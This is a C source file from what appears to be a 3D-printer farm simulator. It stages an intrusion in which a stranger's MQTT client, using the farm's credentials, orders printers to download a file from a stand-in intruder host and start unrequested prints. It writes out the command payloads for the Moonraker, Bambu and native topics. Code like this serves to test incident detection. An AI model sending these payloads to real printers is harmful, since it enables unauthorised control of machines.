/* sim-incident.c: the attack switch, and the farm's inventory
 *
 * The incident is made by a client that is not Drover, the way the 2024
 * Anycubic broker abuse was: a stranger's MQTT client orders printers to
 * fetch a file from a server that is not the farm's. Where a dialect has
 * no MQTT path for the order (Moonraker and OctoPrint take uploads over
 * HTTP, Bambu over FTPS), the file arrives as that upload would, and what
 * the broker shows is what the real program then publishes about it.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include "sim-farm.h"
#include "sim-gcode.h"

#define README_NAME   "hacked_machine_readme.gcode"
#define GCODE_NAME    "firmware_fix.gcode"
#define INTRUDER_HOST "http://127.0.0.2:8000"

static SimMqtt *intruder;

static void
intruder_message_cb (const char *topic,
                     GBytes     *payload,
                     gboolean    retained,
                     gpointer    user_data)
{
}

/**
 * sim_farm_prepare_intruder:
 *
 * Connects the stranger's client ahead of time, so that its orders go out
 * the moment the incident is due.
 */
void
sim_farm_prepare_intruder (SimFarm *farm)
{
  const SimFarmOptions *options = sim_farm_get_options (farm);
  SimMqttOptions mqtt = { 0 };
  g_autofree char *client_id = g_strdup_printf ("mqttx_%08x", g_rand_int (sim_farm_get_rand (farm)));

  if (intruder != NULL)
    return;

  mqtt.uri = options->broker_uri;
  mqtt.client_id = client_id;
  mqtt.username = options->username;
  mqtt.password = options->password;
  mqtt.ca_file = options->ca_file;
  mqtt.mqtt5 = options->mqtt5;
  mqtt.keepalive = 30;
  intruder = sim_mqtt_new (&mqtt, intruder_message_cb, NULL, NULL, NULL);
}

void
sim_farm_release_intruder (void)
{
  g_clear_pointer (&intruder, sim_mqtt_free);
}

static gboolean
intruder_publish (const char *topic,
                  const char *payload)
{
  return intruder != NULL && sim_mqtt_publish (intruder, topic, payload, -1, 1, FALSE);
}

static void
plant (SimPrinter      *printer,
       SimIncidentKind  kind)
{
  const char *name = kind == SIM_INCIDENT_README ? README_NAME : GCODE_NAME;
  const char *source = kind == SIM_INCIDENT_README ? INTRUDER_HOST "/message.txt" : INTRUDER_HOST "/" GCODE_NAME;
  g_autoptr(GBytes) content = kind == SIM_INCIDENT_README ? sim_gcode_incident_readme () : sim_gcode_incident_gcode ();

  if (printer->dialect == SIM_DIALECT_NATIVE && printer->broker_uri == NULL)
    {
      g_autofree char *topic = g_strconcat ("drover/v1/", printer->id, "/cmd", NULL);
      g_autofree char *uuid = g_uuid_string_random ();
      g_autofree char *payload = g_strdup_printf ("{\"v\":1,\"id\":\"%s\",\"command\":\"download\",\"url\":\"%s\",\"file\":\"%s\"}",
                                                  uuid, source, name);

      if (intruder_publish (topic, payload))
        return;
    }

  sim_printer_add_file (printer, name, content);
}

static void
start_unasked (SimPrinter *printer)
{
  SimFile *file;

  if (printer->files->len == 0 || sim_printer_is_busy (printer))
    return;

  file = g_ptr_array_index (printer->files, printer->files->len - 1);

  if (printer->dialect == SIM_DIALECT_MOONRAKER)
    {
      g_autofree char *topic = g_strconcat (printer->id, "/moonraker/api/request", NULL);
      g_autofree char *name = sim_json_string (file->name);
      g_autofree char *payload = g_strdup_printf ("{\"jsonrpc\":\"2.0\",\"method\":\"printer.print.start\","
                                                  "\"params\":{\"filename\":%s,\"mqtt_timestamp\":%" G_GINT64_FORMAT "},\"id\":%u}",
                                                  name, g_get_real_time (), g_random_int_range (1, 100000));

      if (intruder_publish (topic, payload))
        return;
    }
  else if (printer->dialect == SIM_DIALECT_NATIVE)
    {
      g_autofree char *topic = g_strconcat ("drover/v1/", printer->id, "/cmd", NULL);
      g_autofree char *name = sim_json_string (file->name);
      g_autofree char *uuid = g_uuid_string_random ();
      g_autofree char *payload = g_strdup_printf ("{\"v\":1,\"id\":\"%s\",\"command\":\"start\",\"file\":%s}", uuid, name);

      if (intruder_publish (topic, payload))
        return;
    }
  else if (printer->dialect == SIM_DIALECT_BAMBU && printer->broker_uri == NULL)
    {
      g_autofree char *topic = g_strconcat ("device/", printer->serial, "/request", NULL);
      g_autofree char *name = sim_json_string (file->name);
      g_autofree char *url = g_strconcat ("file:///sdcard/", file->name, NULL);
      g_autofree char *url_json = sim_json_string (url);
      g_autofree char *payload = g_strdup_printf ("{\"print\":{\"sequence_id\":\"0\",\"command\":\"project_file\","
                                                  "\"param\":\"Metadata/plate_1.gcode\",\"url\":%s,\"subtask_name\":%s,"
                                                  "\"use_ams\":false}}",
                                                  url_json, name);

      if (intruder_publish (topic, payload))
        return;
    }

  sim_printer_start_job (printer, file->name, NULL);
}

/**
 * sim_farm_incident:
 * @kind: what the stranger does
 * @n_printers: to how many printers
 * @victims: (nullable): filled with the ids of the printers it reached
 *
 * Picks @n_printers online printers on the broker, spread over the farm,
 * and does it to them.
 *
 * Returns: how many printers it reached
 */
guint
sim_farm_incident (SimFarm         *farm,
                   SimIncidentKind  kind,
                   guint            n_printers,
                   GPtrArray       *victims)
{
  GPtrArray *printers = sim_farm_get_printers (farm);
  guint reached = 0;

  sim_farm_prepare_intruder (farm);

  for (guint i = 0; i < printers->len && reached < n_printers; i++)
    {
      SimPrinter *printer = g_ptr_array_index (printers, i);

      if (printer->klass == NULL || printer->state == SIM_STATE_OFFLINE)
        continue;

      if (kind == SIM_INCIDENT_PRINT)
        {
          if (sim_printer_is_busy (printer))
            continue;
          start_unasked (printer);
        }
      else
        plant (printer, kind);

      if (victims != NULL)
        g_ptr_array_add (victims, g_strdup (printer->id));
      reached++;
    }

  return reached;
}

/**
 * sim_farm_dup_inventory:
 *
 * Describes the farm as a key file: the broker, then a group per printer
 * with what a console needs to reach it.
 *
 * Returns: (transfer full): the key file's text
 */
char *
sim_farm_dup_inventory (SimFarm *farm)
{
  g_autoptr(GKeyFile) key_file = g_key_file_new ();
  const SimFarmOptions *options = sim_farm_get_options (farm);
  GPtrArray *printers = sim_farm_get_printers (farm);

  g_key_file_set_string (key_file, "broker farm", "uri", options->broker_uri);
  g_key_file_set_string (key_file, "broker farm", "mqtt-version", options->mqtt5 ? "5" : "3.1.1");
  if (options->username != NULL)
    g_key_file_set_string (key_file, "broker farm", "username", options->username);

  for (guint i = 0; i < printers->len; i++)
    {
      SimPrinter *printer = g_ptr_array_index (printers, i);
      g_autofree char *group = g_strconcat ("printer ", printer->id, NULL);

      g_key_file_set_string (key_file, group, "name", printer->name);
      g_key_file_set_string (key_file, group, "connector", sim_dialect_to_string (printer->dialect));

      switch (printer->dialect)
        {
        case SIM_DIALECT_NATIVE:
          g_key_file_set_string (key_file, group, "broker", "farm");
          g_key_file_set_string (key_file, group, "topic-prefix", "drover/v1/");
          break;

        case SIM_DIALECT_MOONRAKER:
          g_key_file_set_string (key_file, group, "broker", "farm");
          g_key_file_set_string (key_file, group, "instance", printer->id);
          break;

        case SIM_DIALECT_OCTOPRINT:
          {
            g_autofree char *base = g_strconcat ("octoPrint/", printer->id, "/", NULL);

            g_key_file_set_string (key_file, group, "broker", "farm");
            g_key_file_set_string (key_file, group, "base-topic", base);
          }
          break;

        case SIM_DIALECT_BAMBU:
          g_key_file_set_string (key_file, group, "serial", printer->serial);
          if (printer->broker_uri != NULL)
            {
              g_key_file_set_string (key_file, group, "uri", printer->broker_uri);
              g_key_file_set_string (key_file, group, "ca-file", printer->ca_file);
              g_key_file_set_string (key_file, group, "access-code", printer->access_code);
            }
          else
            g_key_file_set_string (key_file, group, "broker", "farm");
          break;

        case SIM_DIALECT_SERIAL:
        case SIM_N_DIALECTS:
        default:
          break;
        }

      if ((printer->dialect == SIM_DIALECT_MOONRAKER || printer->dialect == SIM_DIALECT_OCTOPRINT) &&
          options->http_base != NULL)
        {
          g_autofree char *url = g_strconcat (options->http_base, "/", printer->id, NULL);

          g_key_file_set_string (key_file, group, "http", url);
          g_key_file_set_string (key_file, group, "api-key", printer->api_key);
        }
    }

  return g_key_file_to_data (key_file, NULL, NULL);
}
